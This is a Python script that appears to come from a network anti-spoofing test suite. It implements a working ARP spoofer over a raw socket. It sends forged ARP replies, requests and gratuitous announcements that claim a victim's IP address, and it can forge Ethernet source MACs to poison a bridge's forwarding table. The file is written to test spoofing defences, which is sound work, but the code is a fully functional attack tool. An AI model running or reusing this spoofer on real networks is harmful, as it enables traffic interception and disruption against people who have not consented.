"""A bounded ARP spoofer for the anti-spoofing test: claims an address as its own.

Run inside the attacker guest's namespace (stdlib only, AF_PACKET raw socket)::

    python arpspoof.py IFACE CLAIMED_IP VICTIM_IP VICTIM_MAC --rounds N --interval S

Each round sends four forged frames, every one naming CLAIMED_IP as the ARP
*sender* with the attacker's own MAC: a reply to the victim, a request to the
victim for its own address (Linux answers it and learns the sender), and a
gratuitous request and a gratuitous reply (announcements) to broadcast.  It
sends at most ``rounds * 4`` frames (with ``--source-mac``, all of them with a
forged Ethernet source, to poison the bridge's forwarding table), prints
``sent N`` and exits; it never sends anything but ARP, and only on IFACE.
"""

from __future__ import annotations

import argparse
import socket
import struct
import time

ETH_P_ARP = 0x0806
BROADCAST = b"\xff" * 6


def _mac(text: str) -> bytes:
    return bytes(int(part, 16) for part in text.split(":"))


def arp_frame(dst: bytes, src: bytes, op: int, sha: bytes, spa: str, tha: bytes, tpa: str) -> bytes:
    """An Ethernet frame carrying one ARP packet (IPv4 over Ethernet)."""
    eth = dst + src + struct.pack("!H", ETH_P_ARP)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op)
    arp += sha + socket.inet_aton(spa) + tha + socket.inet_aton(tpa)
    return eth + arp


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("iface")
    parser.add_argument("claimed")
    parser.add_argument("victim_ip")
    parser.add_argument("victim_mac")
    parser.add_argument("--rounds", type=int, default=200)
    parser.add_argument("--interval", type=float, default=0.005)
    parser.add_argument(
        "--source-mac", help="forge this Ethernet source (and ARP sender) MAC instead of ours"
    )
    args = parser.parse_args()
    rounds = max(0, min(args.rounds, 10000))
    victim = _mac(args.victim_mac)
    claimed = args.claimed
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP)) as s:
        s.bind((args.iface, 0))
        # The interface's own MAC, from the socket (``/sys`` would show another netns's).
        me = s.getsockname()[4] if args.source_mac is None else _mac(args.source_mac)
        sent = _send(s, me, victim, claimed, args.victim_ip, rounds, args.interval)
    print(f"sent {sent}", flush=True)
    return 0


def _send(
    s: socket.socket,
    me: bytes,
    victim: bytes,
    claimed: str,
    victim_ip: str,
    rounds: int,
    interval: float,
) -> int:
    frames = [
        arp_frame(victim, me, 2, me, claimed, victim, victim_ip),  # forged reply
        arp_frame(victim, me, 1, me, claimed, b"\0" * 6, victim_ip),  # "who has you? tell me"
        arp_frame(BROADCAST, me, 1, me, claimed, b"\0" * 6, claimed),  # gratuitous request
        arp_frame(BROADCAST, me, 2, me, claimed, BROADCAST, claimed),  # gratuitous reply
    ]
    sent = 0
    for _ in range(rounds):
        for frame in frames:
            s.send(frame)
            sent += 1
        time.sleep(interval)
    return sent


if __name__ == "__main__":
    raise SystemExit(main())
